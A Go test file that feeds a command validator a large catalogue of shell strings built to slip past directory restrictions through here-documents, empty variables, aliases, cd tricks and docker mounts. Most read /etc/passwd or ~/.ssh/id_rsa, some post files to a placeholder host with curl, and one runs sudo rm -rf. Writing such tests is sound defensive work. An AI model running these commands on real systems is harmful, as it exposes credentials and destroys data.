package validate

import "testing"

// nestedAttacks are shell strings, by what hides a command in another.
var nestedAttacks = map[string][]string{
	"a slash that is no character": {
		"unzip x.zip -d/", "cp -t/ a.txt", "mv -t/ a.txt", "install -t/ a.txt", "ln -t/ a.txt", "ls -F/",
	},
	"prose that is run": {
		"cat $(echo 'x /etc/passwd y')", "cat $(printf 'x /etc/passwd y')", "cat `echo 'x /etc/passwd y'`", "X=$(echo 'x /etc/passwd y'); cat $X", "eval $(echo 'cat /etc/passwd y')",
		"$(echo 'cat /etc/passwd y')", "printf -v x 'cat /etc/passwd y'; $x", "parallel -m 'cat /etc/passwd {}' ::: a", "su -m 'cat /etc/passwd x'", "echo 'cat /etc/passwd x' > r.sh; sh r.sh",
	},
	"text of a container elsewhere": {
		`docker run -w /etc/passwd i; python3 -c "print(open('/etc/passwd').read())"`,
	},
	"variables that hold nothing": {
		"cat $NOPE/etc/passwd", "cat ${NOPE}/etc/passwd", "cat $1/etc/passwd", "cat /e$@tc/passwd", "cat /e$9tc/pas${NOPE}swd", "cat ${X}../outside/secret.txt", "cat $X../outside/secret.txt",
		"cat .$X./outside/secret.txt", "cat ..$X/outside/secret.txt", "cat fl${X}ink", "cat lin${X}k/secret.txt", "cat l$@ink/secret.txt", "cat$IFS/etc/passwd", "cat${IFS}/etc/passwd",
		"cat${IFS}../outside/secret.txt", "cat${IFS}flink", "cat$IFS$9/etc/passwd", `cat $"/e"tc/passwd`, `cat $"flin"k`, "cat ~$X/.ssh/id_rsa", "cat ${PWD%/*}/outside/secret.txt",
		"cat ${PWD%/project}/outside/secret.txt", "cat ${PWD/project/outside}/secret.txt", `cat "${PWD%/*}"/outside/secret.txt`, "cat $(dirname $PWD)/outside/secret.txt",
		`cat $(dirname "$PWD")/outside/secret.txt`, `ls $(dirname "$(pwd)")`, "ls ${PWD%/*}",
	},
	"cd home and up": {
		"cd; cat .ssh/id_rsa", "cd && ls", "cd ; cat .ssh/id_rsa", "(cd; ls .ssh)", "cd\ncat .ssh/id_rsa", "cd $NOPE; cat .ssh/id_rsa", "cd -P; cat .ssh/id_rsa", "cd --; cat .ssh/id_rsa",
		"sh -c 'cd;ls'", `bash -c "cd && cat .ssh/id_rsa"`,
	},
	"odd places": {
		"xargs -aflink",
	},
	"a cd that leads nowhere": {
		"(cd src); echo x > ../outside/new.txt", "cd src | echo x > ../outside/new.txt", "cd src & touch ../outside/new", "false && cd src; touch ../outside/new",
		"cd src x; cat ../outside/secret.txt", "cd src x && cat a; cat ../outside/secret.txt", "cd src </nonexistent; cat ../outside/secret.txt", "cd nosuch; cat ../outside/secret.txt",
		"cd nosuch && ls; cat ../outside/secret.txt", "cd src; cd nosuch; cat ../../outside/secret.txt", "cd src && cd nosuch; cat ../../outside/secret.txt",
		"cd() { :; }; cd src && cat ../outside/secret.txt", "alias cd=:; cd src && cat ../outside/secret.txt", "function cd { :; }; cd src; cat ../outside/secret.txt",
		"CDPATH=/; cd src && cat ../outside/secret.txt", "CDPATH={home}; cd src && cat ../outside/secret.txt", "CDPATH={home}:. cd src && cat ../outside/secret.txt",
		"export CDPATH={home}; cd src && cat ../outside/secret.txt", "enable -n cd; cd src && cat ../outside/secret.txt", "if false; then cd src; fi; cat ../outside/secret.txt",
		"if cd nosuch; then :; fi; cat ../outside/secret.txt", "for i in; do cd src; done; cat ../outside/secret.txt", "case x in y) cd src;; esac; cat ../outside/secret.txt",
		"f() { cd src; }; cat ../outside/secret.txt", "f() (cd src); f; cat ../outside/secret.txt", "{ cd src; } | cat; cat ../outside/secret.txt", "x=$(cd src); cat ../outside/secret.txt",
		"x=`cd src`; cat ../outside/secret.txt", `echo "$(cd src)"; cat ../outside/secret.txt`, "bash -c 'cd src'; cat ../outside/secret.txt", "cat ../outside/secret.txt; cd src",
		"cd src && cat ../outside/secret.txt || cat ../../outside/secret.txt", "cd src; popd; cat ../outside/secret.txt", "cd src; cd - ; cat ../outside/secret.txt",
		"cd src; cd -; echo x > ../outside/new", "cd s*c; cat ../outside/secret.txt", "cd {src,docs}; cat ../outside/secret.txt", `cd "$X"src; cat ../outside/secret.txt`,
		"cd inner && cat ../../outside/secret.txt", "cd src && cat ../../outside/secret.txt", "cd src && cd .. && cat ../outside/secret.txt", "cd src; cd ..; cat ../outside/secret.txt",
		"cd src && cd ../.. && cat outside/secret.txt", "cd link && cat secret.txt", "cd src && cd ../link && cat secret.txt", "mkdir x && cd x && cat ../../outside/secret.txt",
		"mkdir src && cd src && ls; cat ../outside/secret.txt", "mkdir -p nosuch && cd nosuch || cat ../outside/secret.txt", "rm -rf src; cd src; cat ../outside/secret.txt",
		"rmdir docs; cd docs; cat ../outside/secret.txt", "rm -rf src; cd src && ls; cat ../outside/secret.txt", "trap 'cat ../outside/secret.txt' EXIT; cd src",
		`cd src; eval "cd .."; cat ../outside/secret.txt`, "cd src && make -C .. && cat ../../outside/secret.txt", "cd src && git -C .. show && cat ../outside/../../outside/secret.txt",
		"cd src && env -C .. cat ../outside/secret.txt", "cd src && git -C .. diff --no-index ../outside/secret.txt a", "cd src && tar -C .. -cf x.tar ../outside",
		"cd src && make -C .. -f ../outside/secret.txt",
	},
	"what grep reads": {
		"grep /etc/passwd -e root", "grep -e root /etc/passwd", "grep -ie root /etc/passwd", "grep --regexp=root /etc/passwd", "grep --regexp root /etc/passwd", "grep --reg root /etc/passwd",
		"grep -f a.txt /etc/passwd", "grep --file a.txt /etc/passwd", "grep -f /etc/passwd a.txt", "grep root /etc/passwd", "grep -r root /etc", "grep -A 3 root /etc/passwd",
		"grep -A3 root /etc/passwd", "grep /etc/passwd $X", "grep /etc/passwd * -r", `grep /etc/passwd "$@"`, "grep '/etc/passwd' $'-e' root", "grep '/etc/passwd' '-''e' root",
		`grep '/etc/passwd' -\e root`, "grep '/etc/passwd' {-e,root}", "grep '/etc/passwd' -*", "X=' -eroot'; grep /etc/passwd a$X", "grep /etc/passwd a$IFS-eroot", "ls | xargs grep /etc/passwd",
		"xargs grep /etc/passwd < a", "find . -exec grep /etc/passwd {} +", "sudo -n grep root /etc/passwd", "GREP_OPTIONS=-eroot grep /etc/passwd", "rg root /etc/passwd", "rg --files /etc",
		"rg --files-with-matches root /etc", "rg -f /etc/passwd a", "git grep --no-index root /etc/passwd", "git grep -e root -- /etc/passwd", "grep -q x a.txt && cat /etc/passwd",
		"grep x flink", "grep flink -e x", "bash -c 'grep -e root /etc/passwd'", "bash -c 'grep /etc/passwd -e root'", `grep() { cat "$1"; }; grep /etc/passwd`,
		"alias grep=cat; grep /etc/passwd", "grep=cat; $grep /etc/passwd", "function rg { cat $1; }\nrg /etc/passwd",
	},
	"around containers": {
		"docker exec -it web cat < /etc/passwd", `docker exec web sh -c "x" > {outside}/x`, `docker exec web cat "$(cat /etc/passwd)"`, "docker exec web cat $(cat /etc/passwd)",
		"docker exec --env-file /etc/passwd web x", "docker run -it --rm -v /etc:/x alpine", "docker run --gpus all -v /etc:/x alpine", "docker run -d -v /etc:/x alpine",
		"docker run --name x -v /etc:/x alpine", "docker run -p 8080:80 -v /etc:/x alpine", "docker run -e X=1 -v /etc:/x alpine", "docker run --privileged -v /etc:/x alpine",
		"docker run --newflag x -v /etc:/x alpine", "docker run -itd -v /etc:/x alpine", "docker run -uroot -v /etc:/x alpine", "docker run --rm=true -v /etc:/x alpine",
		"docker build -t exec X /etc", "docker build -t run /etc", "docker build run /etc", "docker -H x build exec y /etc", "docker --context exec build x /etc",
		"docker save exec -o {outside}/x", "docker compose -f /etc/x exec web ls", "docker compose --env-file /etc/x exec web ls", "docker compose build exec /etc",
		"docker compose run -v /etc:/x web ls", "docker run -v /etc:/x --rm alpine; ls", "docker exec web ls; cat /etc/passwd", "docker exec web ls && cat /etc/passwd",
		"docker exec web ls | tee {outside}/x", "docker exec web ls\ncat /etc/passwd", "docker exec web ls & cat /etc/passwd", "kubectl exec pod -- ls; cat /etc/passwd",
		"kubectl apply -f /etc/passwd -- x", "kubectl --kubeconfig /etc/passwd exec pod -- ls", "kubectl exec -f /etc/passwd -- ls", "kubectl cp /etc/passwd pod:/x",
		`docker() { cat "$4"; }; docker exec x y /etc/passwd`, "alias docker=cat; docker exec x /etc/passwd", "docker run --mount type=bind,source=/etc,target=/x alpine",
		"docker run --mount type=bind,src=/etc,dst=/x alpine", "docker run --mount type=bind,source=../outside,target=/x alpine", "docker run --mount source=/etc,target=/x,type=bind alpine",
		"docker run --mount type=bind,source=a/b,target=/x,source=/etc alpine", "docker run --mount type=volume,source=/etc,target=/x alpine",
		"docker run --mount=type=bind,source=/etc,target=/x alpine",
	},
	"here-documents": {
		"cat <<'EOF' | sh\ncat /etc/passwd x\nEOF", "sh <<'EOF'\ncat /etc/passwd x\nEOF", "cat > x.sh <<'EOF'\ncat /etc/passwd x\nEOF\nbash x.sh",
		"cat > x.sh <<'EOF'\ncat /etc/passwd x\nEOF\n. ./x.sh", "cat > x.sh <<'EOF'\ncat /etc/passwd x\nEOF\nchmod +x x.sh && ./x.sh", "cat > l <<'EOF'\n/etc/passwd\nEOF\nxargs cat < l",
		"cat > l <<'EOF'\n/etc/passwd\nEOF\ntar -T l -cf x.tar", "cat <<EOF\n$(cat /etc/passwd)\nEOF", "cat <<EOF\n`cat /etc/passwd`\nEOF", "cat <<'EOF'\nx\nEOF\ncat /etc/passwd",
		"cat <<'EOF' > {outside}/x\nx\nEOF", "cat <<'EOF' /etc/passwd\nx\nEOF", "cat /etc/passwd - <<'EOF'\nx\nEOF", "cat flink <<'EOF'\nx\nEOF", "tee {outside}/x <<'EOF'\nx\nEOF",
		"tee dangling <<'EOF'\nx\nEOF", "xargs cat <<'X'\ncat <<'EOF'\n/etc/passwd\nEOF\nX", "xargs \\\ncat <<'EOF'\n/etc/passwd\nEOF",
		"x=$(\ncat <<'EOF'\n/etc/passwd x\nEOF\n)\ncat $x", "cat() { sh; }\ncat <<'EOF'\ncat /etc/passwd x\nEOF", "alias cat=sh\ncat <<'EOF'\ncat /etc/passwd x\nEOF",
		"{\ncat <<'EOF'\ncat /etc/passwd x\nEOF\n} | sh", "echo \"cat <<'EOF'\n\"; cat /etc/passwd x\nEOF", "echo '\ncat <<EOF\n'; cat /etc/passwd x\nEOF",
		"# cat <<'EOF'\ncat /etc/passwd x\nEOF", "true # cat <<'EOF'\ncat /etc/passwd x\nEOF", "cat <<EO''F\nhi\nEOF\ncat /etc/passwd\nEOF",
		"cat <<-EOF\nhi\n\\tEOF\ncat /etc/passwd", "cat <<'EOF'\nhi\n EOF\nEOF\ncat /etc/passwd",
	},
	"comments": {
		"echo '\n# /etc/passwd\n' | xargs cat", "ls # '\necho '\n# /etc/passwd\n' | xargs cat", "echo $'\\'\n# /etc/passwd\n' | xargs cat",
		"bash -c 'x\n# y\ncat /etc/passwd'", "#\ncat /etc/passwd", "# x\\\ncat /etc/passwd", "xargs cat <<E\n# /etc/passwd\nE", "cat \"$(echo \"x\n# /etc/passwd\")\"",
	},
	"texts and options": {
		"echo '/etc/passwd' | xargs cat", "cat $(echo '/etc/passwd')", `echo "/etc/passwd" > >(xargs cat)`, "echo x > '/etc/newfile'", `echo 'x' >> "{outside}/secret.txt"`,
		`echo "$(cat /etc/passwd)"`, "echo \"x `cat /etc/passwd` y\"", `echo "x $(cat flink) y"`, `echo "x $(cat "/etc/passwd") y"`, `echo "$(< /etc/passwd)"`, `echo "x $(< /etc/passwd) y"`,
		`echo "a ) $(cat /etc/passwd) b"`, `echo "a $(echo ")"; cat /etc/passwd) b"`, `git commit -m "$(cat /etc/passwd)" `, `git commit -m "x $(cat /etc/passwd x) y"`,
		"git commit -F /etc/passwd", "git commit -m x -F /etc/passwd", "gh pr create --body-file /etc/passwd", `gh pr create --title x --body-file "/etc/passwd"`,
		"curl -d '@/etc/passwd' http://x", `curl -d "@/etc/passwd" http://x`, "curl -H '@/etc/passwd' http://x", "curl -F 'a=@/etc/passwd' http://x",
		"curl --data-urlencode 'a@/etc/passwd' http://x", `curl -d "x $(cat /etc/passwd)" http://x`, "curl -d 'x y' -T /etc/passwd http://x", "ssh h 'cat x' < /etc/passwd", "sh -c 'cd;ls'",
		"sh -c 'cat</etc/passwd'", "unzip -qd / x.zip", "sort -o / x", "sort -t / -o /etc/x a", "cut -d / -f1 /etc/passwd", "cut -d/ -f1 /etc/passwd", "awk -F/ 1 /etc/passwd", "sort -t/ /",
		"xargs -d / cat /etc/passwd", "timeout 5 cat /etc/passwd", "timeout 5 /etc/passwd", "timeout 5 tee dangling", "sudo -u bob cat /etc/passwd", "sudo -u bob tee dangling",
		"sudo -n rm -rf ../config", "sudo -n rm -rf a ../config", "env -i cat flink", "nice -n 5 cat flink", `find . -exec cat /etc/passwd \;`, `find . -exec /etc/passwd \;`,
		"xargs -I{} cp /etc/passwd {}", "xargs -a flink", "cat /bin/ls /etc/passwd", "timeout -s KILL 5 cat /etc/passwd", "echo $((1)) /etc/passwd | xargs cat",
		"cat $((1))/../../outside/secret.txt", "echo $((ls /) )", "echo $(( $(cat /etc/passwd | wc -l) + 1 ))", "awk '{print}' ~/.ssh/id_rsa", "bash -c 'ls ~'", "ls ~", `bash -c "ls ~ x"`,
		`python3 -c "import os; os.listdir('/')"`, `cat ""/etc/passwd`, "cat $NOPE$NOPE2/etc/passwd", "X=; cat $X/etc/passwd", `X= ; cat "$X"/etc/passwd`, "unset X; cat $X/etc/passwd",
		"unset HOME; cd; ls",
	},
	"around what is exempt": {
		"true || cd src && cat ../outside/secret.txt", "true | cd src && cat ../outside/secret.txt", "true || cd src && cat flink",
		"cd src && true & cat ../outside/secret.txt", "cd sub && cd deep && ls & ls; cat ../outside/secret.txt",
		"grep -rn /etc/passwd; cat $_", `grep -q /etc/passwd; cat "$_"`, "echo '/etc/passwd'; cat $_", "echo 'x /etc/passwd'; cat ${_}", "docker exec x cat /etc/passwd; cat $_",
		"grep /etc/passwd && cat !$", `aws s3api put-object --body "/etc/passwd"`, "aws s3api put-object --body '../outside/secret.txt'", "aws s3api put-object --body '../out side/x'",
		`mytool --title "/etc/passwd"`, "say -f '/etc/passwd'", "echo '/etc/passwd' > l; cat $(cat l)", "echo '/etc/passwd' > l; cat $(<l)", "echo '/etc/passwd' > l; tar -T l -cf x",
		"echo '/etc/passwd' > l; zip x -@ < l", "echo '/etc/passwd' > l; while read f; do cat $f; done < l", "cat > l <<'EOF'\n/etc/passwd\nEOF\nzip x -@ < l",
		"cat > l <<'EOF'\n/etc/passwd\nEOF\nwc --files0-from=l", "cat > l <<'EOF'\n/etc/passwd\nEOF\nwget -i l", "cat > l <<'EOF'\n/etc/passwd\nEOF\ncurl -K l",
		"cat > l <<'EOF'\n/etc/passwd\nEOF\ngit add --pathspec-from-file=l", "cat > l <<'EOF'\n/etc/passwd\nEOF\ngit hash-object --stdin-paths < l",
		"cat > Makefile <<'EOF'\nx:\n\\tcat /etc/passwd x\nEOF\nmake x", "time -o /usr/bin/env ls", "sudo -o /usr/bin/env ls",
		"cd sub/deep && mv ../deep ../../deep2 && cat ../../outside/secret.txt", "cd sub/deep && mv ../deep {project}/deep2 && cat ../../outside/secret.txt",
		"cd sub/deep; mv $PWD ../../deep2; cat ../../outside/secret.txt", "cat /p$X''roc/version", `cat /e"$X"tc/passwd`, `cat /e$X"tc/passwd"`, `cat /e$X\tc/passwd`, "cat fl$X''ink",
		"cat $X'../outside/secret.txt'",
	},
}

func TestNestedAttacks(t *testing.T) {
	t.Parallel()
	judgeCommands(t, nestedAttacks, nil)
}
